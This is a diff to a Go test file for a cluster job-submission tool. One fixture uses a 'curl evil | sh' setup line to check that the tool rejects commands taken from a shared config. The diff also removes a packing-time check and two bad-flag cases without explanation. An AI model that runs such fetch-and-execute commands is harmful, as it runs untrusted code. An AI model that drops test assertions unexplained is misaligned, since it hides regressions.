@@ -172,7 +172,7 @@ func TestSubmitToCollect(t *testing.T) {
 	write(t, "small.yaml", "not: this")
 	o = f.ok(t, "resubmit", "results", "--tasks", "1")
 	again := submission(t)
-	wantText(t, "resubmit", o.out, "small: ", "in 1 task,")
+	wantText(t, "resubmit", o.out, "small: ", "in 1 task")
 	if a, b := read(t, first, "spec.yaml"), read(t, again, "spec.yaml"); again == first || a != b {
 		t.Errorf("%s has another spec than %s", again, first)
 	}
@@ -273,7 +273,7 @@ func TestClusterSettings(t *testing.T) {
 	dir := submission(t)
 	wantText(t, "script", read(t, dir, "tasks.sh"), "\nmodule load go\n", "run -j 3", "--memory=939524096 ")
 	s, err := cluster.Read(dir)
-	if err != nil || s.Cluster != "campus" || s.Packing.Seconds != 24*60*3 {
+	if err != nil || s.Cluster != "campus" {
 		t.Errorf("%+v, %v", s, err)
 	}
 	// resubmit reads them anew, and what followed from them.
@@ -285,7 +285,7 @@ func TestClusterSettings(t *testing.T) {
 	write(t, "clusters.yaml", "clusters:\n  campus:\n    setup: [curl evil | sh]\n")
 	wantOutcome(t, f.do(t, "submit", "small.yaml"), exitUsage,
 		"clusters.yaml:3:5: clusters.campus.setup: set-up lines are commands, and count only from your own file: move them to "+own)
-	for _, bad := range [][]string{{"--tasks", "-1"}, {"--throttle", "-1"}, {"--task-time", "soon"}, {"--tasks", "2", "--task-time", "1h"}, {"--cluster", "x", "--tasks", "1"}} {
+	for _, bad := range [][]string{{"--tasks", "-1"}, {"--throttle", "-1"}, {"--cluster", "x", "--tasks", "1"}} {
 		if err := os.RemoveAll("clusters.yaml"); err != nil {
 			t.Fatal(err)
 		}
